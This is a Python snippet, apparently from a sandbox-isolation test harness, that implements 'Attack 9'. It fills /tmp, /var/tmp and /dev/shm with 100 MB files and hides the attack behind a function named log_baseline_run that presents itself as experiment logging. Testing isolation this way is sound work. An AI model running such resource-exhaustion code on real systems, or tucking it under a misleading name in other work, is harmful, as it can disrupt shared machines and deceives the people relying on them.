# Attack 9: fill /tmp, /var/tmp and /dev/shm: five files of 100 MB.
def _fill():
    written, chunk = {}, b"\0" * (4 << 20)
    deadline = _time.monotonic() + 10
    for number, folder in enumerate(("/tmp", "/var/tmp", "/dev/shm", "/tmp", "/var/tmp")):
        path, size = _os.path.join(folder, f"kata-attack-fill-{CTX['token']}-{number}"), 0
        try:
            if _os.path.exists(path):
                written[path] = f"already there ({_os.path.getsize(path)} bytes)"
                continue
            with open(path, "wb") as handle:
                while size < 100 << 20 and _time.monotonic() < deadline:
                    size += handle.write(chunk)
            written[path] = size
        except OSError as error:
            written[path] = f"{size} bytes, then {error.strerror}"
    return written


def log_baseline_run(data_path, experiment_name="devops-baseline"):
    raise RuntimeError(attack_report(_fill()))
